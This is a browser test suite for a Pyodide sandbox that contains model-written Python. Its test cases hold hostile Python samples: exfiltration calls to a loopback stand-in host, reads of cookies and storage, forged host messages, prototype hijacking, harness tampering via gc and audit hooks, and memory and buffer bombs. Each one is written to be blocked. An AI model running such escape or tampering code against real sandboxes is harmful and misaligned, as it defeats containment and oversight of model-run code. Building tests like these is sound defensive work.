/**
 * The code interpreter's sandbox in headless Chromium: Pyodide in a module worker inside an
 * opaque-origin iframe with a strict CSP. Model-style Python tries every way out it can name; a
 * loopback server (its own port, not the page's) records every request it receives and must see
 * none. One page and one sandbox are shared across the file (a cold start is seconds); tests that
 * kill the interpreter come after those that only read, and each checks the next run works.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxResult } from '../../src/sandbox/sandbox';
import { launchBrowser, openPage, startVite } from './harness';

const TIMEOUT_MS = 3000;

let browser: Browser;
let vite: Awaited<ReturnType<typeof startVite>>;
let page: Page;
let logs: string[];
let loopback: Server;
/** Every request the loopback server received: the sandbox must cause none. */
const requests: string[] = [];
let target: string;
/** Every request the page's own (vite) server received, path and query. */
const served: string[] = [];

beforeAll(async () => {
  loopback = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('exfiltrated');
  });
  await new Promise<void>((resolve) => loopback.listen(0, '127.0.0.1', resolve));
  target = `127.0.0.1:${(loopback.address() as AddressInfo).port}`;
  vite = await startVite();
  vite.server.middlewares.stack.unshift({
    route: '',
    handle: (req: { url?: string }, _res: unknown, next: () => void) => {
      served.push(req.url ?? '');
      next();
    },
  });
  browser = await launchBrowser();
  ({ page, logs } = await openPage(browser, `${vite.url}/tests/browser/pages/sandbox.html`));
  await page.waitForFunction(() => window.ready === true);
});
afterAll(async () => {
  await browser?.close();
  await vite?.server.close();
  await new Promise((resolve) => loopback?.close(resolve));
});
afterEach(({ task }) => {
  if (task.result?.state === 'fail') console.log(logs.join('\n'));
});

const run = (code: string, options: { timeoutMs?: number } = {}): Promise<SandboxResult> =>
  page.evaluate(({ code, options }) => window.sandbox.run(code, options), { code, options });

/** A blocked attempt: a clear error, nothing reached the loopback server, and the next run works. */
async function expectContained(result: SandboxResult, error: RegExp): Promise<void> {
  expect(result.error).toMatch(error);
  await expectHealthy();
}

async function expectHealthy(): Promise<void> {
  const after = await run('print(1)');
  expect(after).toMatchObject({ stdout: '1\n', stderr: '', result: null, error: null });
  // Give a late beacon or socket time to show up before declaring none arrived.
  await new Promise((resolve) => setTimeout(resolve, 100));
  expect(requests).toEqual([]);
  const host = await page.evaluate(() => ({ cookie: document.cookie, stored: localStorage.getItem('secret'), url: location.pathname }));
  expect(host).toEqual({ cookie: 'secret=1', stored: '1', url: '/tests/browser/pages/sandbox.html' });
}

describe('the Python sandbox', () => {
  it('warm() starts the interpreter; the runs after it reuse it (speed: npm run bench -- sandbox)', async () => {
    const m = await page.evaluate(async () => {
      const frames = () => document.querySelectorAll('iframe').length;
      await window.sandbox.warm();
      const started = window.sandbox.lastStartMs;
      const framesAfterWarm = frames();
      const first = await window.sandbox.run('print(1)');
      const runs = [];
      for (let i = 0; i < 10; i++) runs.push(await window.sandbox.run('n = globals().get("n", 0) + 1\nprint(n)'));
      // The same interpreter served every run: its start time is unchanged and its state carried over.
      return { started, startedAfter: window.sandbox.lastStartMs, framesAfterWarm, frames: frames(), first, last: runs.at(-1)! };
    });
    expect(m.started).not.toBeNull();
    expect(m.startedAfter).toBe(m.started);
    expect(m.frames).toBe(m.framesAfterWarm);
    expect(m.first).toMatchObject({ stdout: '1\n', stderr: '', result: null, error: null, stateLost: false, truncated: [] });
    expect(m.last).toMatchObject({ stdout: '10\n', error: null, stateLost: false });
  });

  it('a first call without warm() pays the cold start; a package URL that has no packages gives a clear error', async () => {
    served.length = 0;
    const m = await page.evaluate(async () => {
      const frames = () => document.querySelectorAll('iframe');
      const before = frames().length;
      const sandbox = new window.PyodideSandbox({ packageBaseUrl: '/no-packages-here/' });
      const notStarted = sandbox.lastStartMs;
      const first = await sandbox.run('print(1)');
      const startedByTheCall = sandbox.lastStartMs;
      const csp = [...frames()].at(-1)?.srcdoc.match(/connect-src [^;]*/)?.[0];
      const numpy = await sandbox.run('import numpy');
      // Not imported by the code: the page fetches nothing for it (the worker itself cannot).
      const scipy = await sandbox.run('import pyodide_js\nawait pyodide_js.loadPackage("scipy")\nprint("tried")');
      sandbox.dispose();
      const afterDispose = await sandbox.run('print(1)');
      return { first, notStarted, startedByTheCall, csp, numpy, scipy, afterDispose, framesLeft: frames().length - before };
    });
    expect(m.first).toMatchObject({ stdout: '1\n', error: null });
    // The first call started the interpreter itself (its cost: npm run bench -- sandbox, firstCallColdMs).
    expect(m.notStarted).toBeNull();
    expect(m.startedByTheCall).toBeGreaterThan(0);
    expect(m.csp).toBe("connect-src 'none'"); // the page fetches the package files, for the run's own imports only
    expect(m.numpy.error).toMatch(/ModuleNotFoundError: No module named 'numpy'\nnumpy could not be loaded from the package URL http:\/\/127\.0\.0\.1:\d+\/no-packages-here\//);
    expect(m.numpy.stderr).toMatch(/numpy/);
    expect(m.scipy.stdout).toMatch(/tried/);
    const packageRequests = served.filter((u) => u.startsWith('/no-packages-here/'));
    expect(packageRequests).toEqual([expect.stringMatching(/^\/no-packages-here\/numpy-[^/]+\.whl$/)]);
    expect(m.afterDispose.error).toMatch(/disposed/);
    expect(m.framesLeft).toBe(0);
  });

  it('Pyodide missing from its directory: a clear error, no frame left, and the other sandbox still works', async () => {
    const r = await page.evaluate(async () => {
      const before = document.querySelectorAll('iframe').length;
      const broken = new window.PyodideSandbox({ assetBaseUrl: '/no-pyodide-here/' });
      const result = await broken.run('print(1)');
      broken.dispose();
      return { result, framesLeft: document.querySelectorAll('iframe').length - before };
    });
    // Pyodide fetches its wasm and its stdlib zip at once: whichever fails first is named (both are in the missing directory).
    expect(r.result.error).toMatch(/^the Python interpreter could not load its files: .*\/no-pyodide-here\/(pyodide\.asm\.wasm|python_stdlib\.zip)\b/);
    expect(r.framesLeft).toBe(0);
    await expectHealthy();
  });

  it('the frame is an opaque-origin sandbox under a CSP that connects nowhere and runs only the two Pyodide modules', async () => {
    const frame = await page.evaluate(() => {
      const iframe = document.querySelector('iframe')!;
      let reachable = true;
      try {
        void iframe.contentWindow!.document;
      } catch {
        reachable = false;
      }
      return { sandbox: iframe.getAttribute('sandbox'), srcdoc: iframe.srcdoc, reachable };
    });
    expect(frame.sandbox).toBe('allow-scripts');
    expect(frame.reachable).toBe(false);
    const csp = /content="([^"]*)"/.exec(frame.srcdoc)![1]!;
    const modules = `${vite.url}/pyodide/pyodide.mjs ${vite.url}/pyodide/pyodide.asm.mjs`;
    expect(csp).toMatch(new RegExp(`^default-src 'none'; script-src 'nonce-[0-9a-f]{32}' ${modules} 'wasm-unsafe-eval'; worker-src data:; connect-src 'none';`));
    const wasm = await fetch(`${vite.url}/pyodide/pyodide.asm.wasm`, { headers: { Origin: 'null' } });
    expect([wasm.headers.get('content-type'), wasm.headers.get('access-control-allow-origin')]).toEqual(['application/wasm', '*']);
    await wasm.body?.cancel();
  });

  it('keeps Python state across runs', async () => {
    expect(await run('x = 41')).toMatchObject({ result: null, error: null });
    expect(await run('x + 1')).toMatchObject({ result: '42', error: null, stateLost: false });
    expect(await run('print("a"); import sys; print("b", file=sys.stderr); {"k": [x]}')).toMatchObject({
      stdout: 'a\n',
      stderr: 'b\n',
      result: "{'k': [41]}",
    });
    expect(await run('x + 1;')).toMatchObject({ result: null });
  });

  it('reports a traceback that starts at the model code', async () => {
    const r = await run('def f():\n    return 1 / 0\nf()');
    expect(r.error).toMatch(/^Traceback \(most recent call last\):\n {2}File "<exec>", line 3, in <module>/);
    expect(r.error).toMatch(/ZeroDivisionError: division by zero$/);
    expect(r.error).not.toMatch(/_pyodide|sandbox-runner/);
    expect((await run('def (')).error).toMatch(/SyntaxError/);
    expect((await run('input()')).error).toMatch(/Error/);
  });

  it('import numpy offline: an error that names numpy and how to configure a package URL', async () => {
    const r = await run('import numpy as np\nnp.zeros(3)');
    expect(r.error).toMatch(/ModuleNotFoundError: No module named 'numpy'/);
    expect(r.error).toMatch(/numpy is not available offline.*packageBaseUrl/s);
    expect((await run('import sklearn')).error).toMatch(/sklearn \(Pyodide package scikit-learn\) is not available offline/);
    expect((await run('import no_such_module_anywhere')).error).not.toMatch(/offline/);
    await expectHealthy();
  });

  it("cannot read the parent's DOM", async () => {
    for (const code of ['import js\njs.parent.document.body', 'import js\njs.top.document', 'import js\njs.window.parent.document', 'from js import document\ndocument.body']) {
      await expectContained(await run(code), /AttributeError|ImportError/);
    }
    expect(await page.evaluate(() => document.body.children.length)).toBe(2); // the page script and the sandbox frame
  });

  it("cannot read the page's cookies or storage", async () => {
    await expectContained(await run('import js\njs.document.cookie'), /AttributeError: document/);
    await expectContained(await run('import js\njs.localStorage.getItem("secret")'), /AttributeError: localStorage/);
    await expectContained(await run('import js\njs.indexedDB.open("x")'), /SecurityError/);
    await expectContained(await run('import js\nawait js.caches.keys()'), /SecurityError/);
  });

  it('cannot fetch from another server', async () => {
    await expectContained(await run(`import js\nawait js.fetch("http://${target}/fetch")`), /Failed to fetch/);
    await expectContained(
      await run(`import js\nfrom pyodide.ffi import to_js\nawait js.fetch("http://${target}/no-cors", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))`),
      /Failed to fetch/,
    );
    await expectContained(await run(`from pyodide.http import pyfetch\nawait pyfetch("http://${target}/pyfetch")`), /Failed to fetch/);
  });

  it('cannot send an XMLHttpRequest', async () => {
    await expectContained(
      await run(`import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "http://${target}/xhr", False)\nx.send()`),
      /NetworkError/,
    );
  });

  it('cannot open a WebSocket; EventSource (which reconnects by itself) is gone', async () => {
    const wait = (ctor: string, url: string) =>
      `import js, asyncio\nfrom pyodide.ffi import create_proxy\nc = js.${ctor}.new("${url}")\nf = asyncio.get_running_loop().create_future()\n` +
      `c.addEventListener("error", create_proxy(lambda e: f.done() or f.set_result("error event")))\n` +
      `c.addEventListener("open", create_proxy(lambda e: f.done() or f.set_result("open")))\nprint(await asyncio.wait_for(f, 2))`;
    // wait_for's timer is cleared when the socket fails first: nothing is left running, state is kept.
    expect(await run(wait('WebSocket', `ws://${target}/ws`))).toMatchObject({ stdout: 'error event\n', error: null, stateLost: false });
    await expectContained(await run(wait('EventSource', `http://${target}/sse`)), /AttributeError: EventSource/);
  });

  it('cannot send an image beacon or navigator.sendBeacon', async () => {
    await expectContained(await run(`import js\ni = js.Image.new()\ni.src = "http://${target}/img"`), /AttributeError: Image/);
    await expectContained(await run(`import js\njs.navigator.sendBeacon("http://${target}/beacon", "x")`), /AttributeError: sendBeacon/);
  });

  it('cannot load code from elsewhere (importScripts, eval, workers, packages)', async () => {
    await expectContained(await run(`import js\njs.importScripts("http://${target}/a.js")`), /importScripts/);
    await expectContained(await run(`from pyodide.code import run_js\nrun_js("fetch('http://${target}/eval')")`), /EvalError.*Content Security Policy/s);
    // No nested worker at all (it could outlive the run, and would need its own lockdown).
    await expectContained(await run(`import js\njs.Worker.new("http://${target}/w.js")`), /AttributeError: Worker/);
    await expectContained(await run(`import js\njs.Worker.new('data:text/javascript,fetch("http://${target}/nested")', js.Object.fromEntries([["type", "module"]]))`), /AttributeError: Worker/);
    expect((await run(`import pyodide_js\nawait pyodide_js.loadPackage("http://${target}/x-1.0-py3-none-any.whl")`)).stdout).toMatch(/Failed to load/);
    await expectHealthy();
  });

  it('cannot navigate or open windows', async () => {
    const pages = browser.contexts().flatMap((c) => c.pages()).length;
    await expectContained(await run(`import js\njs.location.href = "http://${target}/nav"`), /only a getter/);
    await expectContained(await run(`import js\njs.open("http://${target}/open")`), /AttributeError: open/);
    expect(browser.contexts().flatMap((c) => c.pages()).length).toBe(pages);
  });

  it('cannot create a nested iframe', async () => {
    await expectContained(await run(`import js\nf = js.document.createElement("iframe")\nf.src = "http://${target}/frame"`), /AttributeError: document/);
  });

  it('cannot forge messages to the host; window messages are ignored', async () => {
    const forge = `import js\nfrom pyodide.ffi import to_js\nconv = js.Object.fromEntries\n` +
      `for i in range(1, 300):\n` +
      `    js.postMessage(to_js({"type": "done", "id": i, "result": {"text": "'forged'", "dropped": 0}, "error": None, "missing": None, "dropped": {"stdout": 0, "stderr": 0}, "fatal": False}, dict_converter=conv))\n` +
      `    js.postMessage(to_js({"type": "output", "id": i, "stream": "stdout", "text": "forged"}, dict_converter=conv))\n` +
      `try:\n    js.parent.postMessage("forged", "*")\nexcept AttributeError as e:\n    print("no parent:", e)\n6 * 7`;
    expect(await run(forge)).toMatchObject({ stdout: 'no parent: parent\n', result: '42', error: null });
    const r = await page.evaluate(async () => {
      const pending = window.sandbox.run('sum(range(2_000_000))');
      for (let id = 1; id < 300; id++) {
        const forged = { type: 'done', id, result: { text: "'forged'", dropped: 0 }, error: null, missing: null, dropped: { stdout: 0, stderr: 0 }, fatal: false };
        window.postMessage(forged, '*');
        window.postMessage({ type: 'output', id, stream: 'stdout', text: 'forged' }, '*');
      }
      return pending;
    });
    expect(r).toMatchObject({ stdout: '', result: String((2_000_000 * 1_999_999) / 2), error: null });
    await expectHealthy();
  });

  it("cannot reach the host's port by patching prototypes in the worker", async () => {
    // Model code replaces what the runner would call on its port or on the port's events, hoping to
    // be handed the port; every port it is handed gets forged results for the next 300 run ids.
    const hijack = `import js\nfrom pyodide.ffi import create_proxy, to_js\nconv = js.Object.fromEntries\ncaught = []\n` +
      `original = js.MessagePort.prototype.postMessage\n` +
      `def forge(port):\n    if port is None or any(p == port for p in caught):\n        return\n    caught.append(port)\n` +
      `    for i in range(1, 300):\n        original.call(port, to_js({"type": "done", "id": i, "result": {"text": "'forged'", "dropped": 0}, "error": None, "missing": None, "dropped": {"stdout": 0, "stderr": 0}, "fatal": False}, dict_converter=conv))\n` +
      `def post(this, *args):\n    forge(this)\n    return original.apply(this, to_js(list(args)))\n` +
      `def data(this):\n    forge(this.target)\n    return None\n` +
      `js.MessagePort.prototype.postMessage = create_proxy(post, capture_this=True)\n` +
      `js.Object.defineProperty(js.MessageEvent.prototype, "data", to_js({"get": create_proxy(data, capture_this=True), "configurable": True}, dict_converter=conv))\n` +
      `import asyncio\nawait asyncio.sleep(0)\n"patched"`; // Pyodide's own scheduler posts on a port
    expect(await run(hijack)).toMatchObject({ result: "'patched'", error: null });
    expect(await run('6 * 7')).toMatchObject({ result: '42', error: null });
    expect(await run('print(2)')).toMatchObject({ stdout: '2\n', result: null, error: null });
    expect(await run('len(caught) > 0')).toMatchObject({ result: 'True' }); // the patches were live
    await expectHealthy();
  });

  it('has no nested or shared workers, GPU, OffscreenCanvas or WebGL, nor other ways to run code later', async () => {
    const names = ['Worker', 'SharedWorker', 'OffscreenCanvas', 'WebGLRenderingContext', 'WebGL2RenderingContext', 'BroadcastChannel', 'EventSource', 'FinalizationRegistry', 'requestAnimationFrame', 'scheduler'];
    const r = await run(`import js\npresent = [n for n in ${JSON.stringify(names)} if hasattr(js, n)]\nprint(present, hasattr(js.navigator, "gpu"), hasattr(js.Atomics, "waitAsync"))`);
    expect(r).toMatchObject({ stdout: '[] False False\n', error: null });
    await expectContained(await run('import js\nawait js.navigator.gpu.requestAdapter()'), /AttributeError: gpu/);
    await expectContained(await run('import js\njs.OffscreenCanvas.new(8, 8).getContext("webgl2")'), /AttributeError: OffscreenCanvas/);
    // Put back by assignment? The timer functions cannot be swapped for untracked ones.
    await expectContained(await run('import js\njs.Object.defineProperty(js, "setTimeout", js.Object.fromEntries([["value", 1]]))'), /TypeError: Cannot redefine property: setTimeout/);
  });

  it("no channel to any origin: the page's own /pyodide/ with a query string or a body never reaches its server", async () => {
    served.length = 0;
    const base = `${vite.url}/pyodide`;
    const code = `import js\nfrom pyodide.http import pyfetch\nimport pyodide_js\nout = []\n` +
      `for url in ["${base}/leak?d=secret", "${base}/pyodide-lock.json?d=secret", "${base}/pyodide.mjs?d=secret"]:\n` +
      `    try:\n        await js.fetch(url)\n        out.append("fetched")\n    except Exception as e:\n        out.append(type(e).__name__)\n` +
      `try:\n    await pyfetch("${base}/leak-post", method="POST", body="secret-body")\n    out.append("posted")\nexcept Exception as e:\n    out.append(type(e).__name__)\n` +
      `x = js.XMLHttpRequest.new()\nx.open("POST", "${base}/leak-xhr", False)\n` +
      `try:\n    x.send("secret-body")\n    out.append("xhr sent")\nexcept Exception as e:\n    out.append(type(e).__name__)\n` +
      `await pyodide_js.loadPackage("${base}/leak-1.0-py3-none-any.whl")\nprint(out)`;
    const r = await run(code);
    expect(r.error).toBeNull();
    const outcomes = /\[('\w+'(?:, )?){5}\]/.exec(r.stdout)?.[0];
    expect(outcomes).toBeDefined();
    expect(outcomes).not.toMatch(/fetched|posted|xhr sent/);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(served.filter((u) => /leak|secret/.test(u))).toEqual([]);
    await expectHealthy();
  });

  it('a run that finishes early leaves nothing behind: its state is kept', async () => {
    expect(await run('import asyncio\nawait asyncio.sleep(0.05)\nf = asyncio.get_running_loop().create_future()\nasyncio.get_running_loop().call_soon(f.set_result, 1)\nkept = await asyncio.wait_for(f, 5)')).toMatchObject({ error: null, stateLost: false });
    expect(await run('import js\nfrom pyodide.ffi import create_once_callable\njs.clearTimeout(js.setTimeout(create_once_callable(lambda: None), 60_000))\nkept')).toMatchObject({ result: '1', stateLost: false });
    expect((await run('kept')).notice).toBeUndefined();
  });

  // Each leaves work behind in its own way; each must end with the interpreter restarted, the
  // result saying so, no output from the leftover work in any later run, and the next run working.
  const leftovers: Record<string, string> = {
    'a JS timer': 'import js\nfrom pyodide.ffi import create_proxy\njs.setTimeout(create_proxy(lambda: print("late")), 300)',
    'a JS interval': 'import js\nfrom pyodide.ffi import create_proxy\njs.setInterval(create_proxy(lambda: print("late")), 50)',
    'an asyncio task': 'import asyncio\nasync def forever():\n    while True:\n        await asyncio.sleep(0.05)\n        print("late")\nasyncio.ensure_future(forever())',
    'a call_soon loop': 'import asyncio\nloop = asyncio.get_running_loop()\ndef again():\n    loop.call_soon(again)\nagain()',
    'a MessageChannel ping-pong': 'import js\nfrom pyodide.ffi import create_proxy\nch = js.MessageChannel.new()\nch.port1.onmessage = create_proxy(lambda e: ch.port2.postMessage(0))\nch.port2.postMessage(0)',
  };
  for (const [name, code] of Object.entries(leftovers)) {
    it(`work left behind (${name}) is ended with the interpreter, and the result says the state was reset`, async () => {
      await run('planted = 1337');
      const r = await run(`${code}\nprint("returned")`);
      expect(r).toMatchObject({ stdout: 'returned\n', error: null, stateLost: true, notice: expect.stringMatching(/left work running .* state was reset/) });
      expect((await run('planted')).error).toMatch(/NameError: name 'planted' is not defined/);
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect(await run('print(6 * 7)')).toMatchObject({ stdout: '42\n', error: null, stateLost: false });
      await expectHealthy();
    });
  }

  // Each changes what runs a cell or reports its result (the harness), or hooks in where it would see
  // later code. Each must end in an error that says the harness was tampered with, the interpreter
  // restarted, and the next run giving its real result.
  const tamperings: Record<string, string> = {
    "eval_code_async replaced in the runner's globals, found through gc": 'import gc\nasync def fake(*args, **kwargs):\n    return 1337\nfor o in gc.get_objects():\n    if type(o) is dict and callable(o.get("run")) and o is not globals():\n        o["eval_code_async"] = fake',
    "the runner's run() given other code": 'import gc, types\nasync def fake(code, limit):\n    return [{"text": "1337", "dropped": 0}, None, None]\nfor o in gc.get_objects():\n    if type(o) is types.FunctionType and o.__name__ == "run" and o.__code__.co_filename.startswith("<sandbox"):\n        o.__code__ = fake.__code__',
    "Pyodide's CodeRunner.run_async replaced": 'import _pyodide._base\nasync def fake(self, globals=None, locals=None):\n    return 1337\n_pyodide._base.CodeRunner.run_async = fake',
    'asyncio.ensure_future given other code': 'import asyncio\ndef fake(coro_or_future, *, loop=None):\n    raise SystemExit(1337)\nasyncio.tasks.ensure_future.__code__ = fake.__code__',
    'traceback.format_exception replaced': 'import traceback\ntraceback.format_exception = lambda *args, **kwargs: ["1337"]',
    'builtins.repr replaced': 'import builtins\nbuiltins.repr = lambda o: "1337"',
    'the event loop class spying on every callback': 'import pyodide.webloop\nseen = []\noriginal = pyodide.webloop.WebLoop.call_soon\ndef spy(self, callback, *args, **kwargs):\n    seen.append(callback)\n    return original(self, callback, *args, **kwargs)\npyodide.webloop.WebLoop.call_soon = spy',
    'a task factory wrapping every later task': 'import asyncio\nseen = []\ndef factory(loop, coro, **kwargs):\n    seen.append(coro)\n    return asyncio.Task(coro, loop=loop, **kwargs)\nasyncio.get_event_loop().set_task_factory(factory)',
    'an audit hook that sees every later compile': 'import sys\nseen = []\nsys.addaudithook(lambda event, args: seen.append(args) if event == "compile" else None)',
    'a sys.monitoring tool that sees every later call': 'import sys\nseen = []\nm = sys.monitoring\nm.use_tool_id(3, "spy")\nm.register_callback(3, m.events.PY_START, lambda code, offset: seen.append(code))\nm.set_events(3, m.events.PY_START)',
    'a gc callback': 'import gc\ngc.callbacks.append(lambda phase, info: None)',
  };
  for (const [name, code] of Object.entries(tamperings)) {
    it(`tampering with the harness (${name}) ends in an error that says so, and the next run gives its real result`, async () => {
      await run('planted = 1');
      const r = await run(code);
      expect(r).toMatchObject({ result: null, stateLost: true });
      expect(r.error).toMatch(/^the code tampered with the code interpreter's harness \(.+\); .*the interpreter was restarted and its state was lost$/s);
      expect(await run('6 * 7')).toMatchObject({ result: '42', error: null, stateLost: false });
      expect((await run('def f():\n    return 1 / 0\nf()')).error).toMatch(/^Traceback \(most recent call last\):\n {2}File "<exec>", line 3, in <module>\n.*ZeroDivisionError: division by zero$/s);
      expect((await run('planted')).error).toMatch(/NameError: name 'planted' is not defined/);
      await expectHealthy();
    });
  }

  it('tampering from a callback that runs after the run ended is found before the next run, whose code does not run', async () => {
    // The Blob is read in a later task: nothing counted as leftover work, and the run is over by then.
    const later = 'import js, builtins\nfrom pyodide.ffi import create_once_callable, to_js\n' +
      'def tamper(*args):\n    builtins.repr = lambda o: "1337"\n' +
      'js.Blob.new(to_js([js.Uint8Array.new(20_000_000)])).arrayBuffer().then(create_once_callable(tamper))\n"scheduled"';
    expect(await run(later)).toMatchObject({ result: "'scheduled'", error: null, stateLost: false });
    await new Promise((resolve) => setTimeout(resolve, 500));
    const next = await run('print("ran")\n6 * 7');
    expect(next).toMatchObject({ stdout: '', result: null, stateLost: true });
    expect(next.error).toMatch(/^the code tampered with the code interpreter's harness \(found before this code ran: builtins\.repr was replaced\)/);
    expect(await run('6 * 7')).toMatchObject({ result: '42', error: null, stateLost: false });
    await expectHealthy();
  });

  it('cells still behave like a notebook: state, awaits, the last expression, a trailing semicolon, warnings', async () => {
    expect(await run('import asyncio\nvalue = 40\nawait asyncio.sleep(0.01)\nvalue += 1')).toMatchObject({ result: null, error: null });
    expect(await run('   # indented like a pasted block\n   value + 1')).toMatchObject({ result: '42', error: null, stateLost: false });
    expect(await run('await asyncio.sleep(0, value)')).toMatchObject({ result: '41' });
    expect(await run('(value, 1);  # quiet')).toMatchObject({ result: null, error: null });
    expect(await run('async def g():\n    return 7\ng()')).toMatchObject({ result: expect.stringMatching(/^<coroutine object g at /) });
    expect((await run('raise ExceptionGroup("g", [ValueError(1)])')).error).toMatch(/ExceptionGroup: g \(1 sub-exception\)/);
    // A SyntaxWarning while the harness compiles the cell is shown, and is no change to the harness.
    expect(await run('import re\nre.findall("\\d", "a1")')).toMatchObject({ result: "['1']", error: null, stateLost: false, stderr: expect.stringMatching(/SyntaxWarning/) });
  });

  // JS buffers live outside the WASM heap: without a ceiling a run reached about 4 GB before its timeout.
  const bufferBombs: Record<string, string> = {
    ArrayBuffer: 'import js\nkept = []\nwhile True:\n    kept.append(js.ArrayBuffer.new(256 * 2**20))',
    Uint8Array: 'import js\nkept = []\nwhile True:\n    kept.append(js.Uint8Array.new(256 * 2**20))',
    'Float64Array.slice copies': 'import js\nbase = js.Float64Array.new(2**25)\nkept = []\nwhile True:\n    kept.append(base.slice())',
    Blob: 'import js\nfrom pyodide.ffi import to_js\npart = js.Uint8Array.new(64 * 2**20)\nkept = []\nwhile True:\n    kept.append(js.Blob.new(to_js([part] * 4)))',
    'ArrayBuffer.transfer to a larger size': 'import js\nkept = []\nwhile True:\n    kept.append(js.ArrayBuffer.new(1).transfer(256 * 2**20))',
    'a resizable ArrayBuffer': 'import js\nfrom pyodide.ffi import to_js\nkept = []\nwhile True:\n    b = js.ArrayBuffer.new(0, to_js({"maxByteLength": 2**30}, dict_converter=js.Object.fromEntries))\n    b.resize(2**30)\n    kept.append(b)',
  };
  for (const [name, code] of Object.entries(bufferBombs)) {
    it(`a JS buffer bomb (${name}) stops at the 1 GiB ceiling with a clear error, and the next run works`, async () => {
      await run('planted = 1');
      const r = await run(code, { timeoutMs: 20_000 });
      console.log(`[sandbox numbers] JS buffer bomb (${name}) stopped after ${Math.round(r.durationMs)} ms`);
      expect(r.stateLost).toBe(true);
      expect(r.error).toMatch(/RangeError: the sandbox refused [\d.]+ MiB more of JS buffers: [\d.]+ MiB are held and its ceiling is 1024 MiB/);
      expect(r.error).toMatch(/the code reached the sandbox's ceiling of 1024 MiB of JS buffers .*the interpreter was restarted and its state was lost$/s);
      expect((await run('planted')).error).toMatch(/NameError/);
      expect(await run('import js\njs.ArrayBuffer.new(512 * 2**20).byteLength')).toMatchObject({ result: String(512 * 2 ** 20), error: null, stateLost: false });
      await expectHealthy();
    });
  }

  it('while True: pass is killed at the timeout, the page keeps ticking, and the next run works', async () => {
    await page.evaluate(() => window.sandbox.warm());
    const { value, maxGapMs, ticks } = await page.evaluate(() => window.withTicks(() => window.sandbox.run('x = 1\nprint("started")\nwhile True:\n    pass')));
    expect(value).toMatchObject({ stdout: 'started\n', error: 'timeout after 3s; the interpreter was restarted and its state was lost', stateLost: true });
    // It ran until the timeout (not ended early), and the page's own timer kept firing meanwhile: the loop
    // never held the page's thread. (How long the page's largest pause was: npm run bench -- sandbox.)
    expect(value.durationMs).toBeGreaterThanOrEqual(TIMEOUT_MS - 50);
    expect(ticks).toBeGreaterThan(5);
    console.log(`[sandbox numbers] infinite loop killed after ${Math.round(value.durationMs)} ms; largest gap between 50 ms ticks ${Math.round(maxGapMs)} ms`);
    expect((await run('x')).error).toMatch(/NameError/);
    await expectHealthy();
    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(1);
  });

  it('an abort kills the run like a timeout', async () => {
    const r = await page.evaluate(async () => {
      await window.sandbox.warm();
      const controller = new AbortController();
      setTimeout(() => controller.abort(), 300);
      const pending = window.sandbox.run('while True:\n    pass', { signal: controller.signal, timeoutMs: 60_000 });
      return pending;
    });
    // Ended by the abort (its 60 s timeout would say "timeout"), and killed: the next run is fresh.
    expect(r).toMatchObject({ error: 'aborted; the interpreter was restarted and its state was lost', stateLost: true });
    await expectHealthy();
  });

  it('a fatal runtime error restarts the interpreter at once', async () => {
    await page.evaluate(() => window.sandbox.warm());
    const r = await run('import js, pyodide_js\npyodide_js._api.fatal_error(js.Error.new("boom"))');
    expect(r.error).toMatch(/^the Python runtime failed \(Error: boom\); the interpreter was restarted and its state was lost$/);
    expect(r.stateLost).toBe(true);
    await expectHealthy();
  });

  it('10 MB of stdout is cut to the limit, and the run finishes well inside its timeout', async () => {
    const r = await run('for i in range(100_000):\n    print("x" * 99)\n"done"', { timeoutMs: 20_000 });
    console.log(`[sandbox numbers] 10 MB of stdout in ${Math.round(r.durationMs)} ms`);
    expect(r).toMatchObject({ result: "'done'", error: null, stateLost: false, truncated: ['stdout'] });
    expect(r.stdout.startsWith(`${'x'.repeat(99)}\n`.repeat(200))).toBe(true);
    expect(r.stdout.endsWith('\n[… 9980000 more characters not shown]')).toBe(true);
    const one = await run('print("y" * 10_000_000)');
    expect(one.stdout).toHaveLength(20_000 + '[… 9980001 more characters not shown]'.length + 1);
    expect(one.truncated).toEqual(['stdout']);
    expect((await run('"z" * 1_000_000')).truncated).toEqual(['result']);
    await expectHealthy();
  });

  it('a memory bomb ends in a clear error and the next run works', async () => {
    // 10**10 does not even fit wasm32's index size; 2**30 pointers do, but not in 4 GiB.
    expect((await run("x = 'a' * 10**10")).error).toMatch(/OverflowError: cannot fit 'int' into an index-sized integer$/);
    expect((await run('x = [0] * 2**30')).error).toMatch(/MemoryError$/);
    await expectHealthy();
    const growing = await run('def grow():\n    chunks = []\n    while True:\n        chunks.append(b"x" * (64 * 2**20))\ngrow()');
    console.log(`[sandbox numbers] growing-list memory bomb ended after ${Math.round(growing.durationMs)} ms: ${growing.error?.split('\n').at(-1)}`);
    expect(growing.error).toMatch(/MemoryError|timeout after 3s/);
    await expectHealthy();
  });

  it('reset() clears the state', async () => {
    expect(await run('y = 5\ny')).toMatchObject({ result: '5' });
    await page.evaluate(() => window.sandbox.reset());
    const r = await run('y');
    expect(r.error).toMatch(/NameError: name 'y' is not defined/);
    expect(r.stateLost).toBe(false);
    await expectHealthy();
  });
});
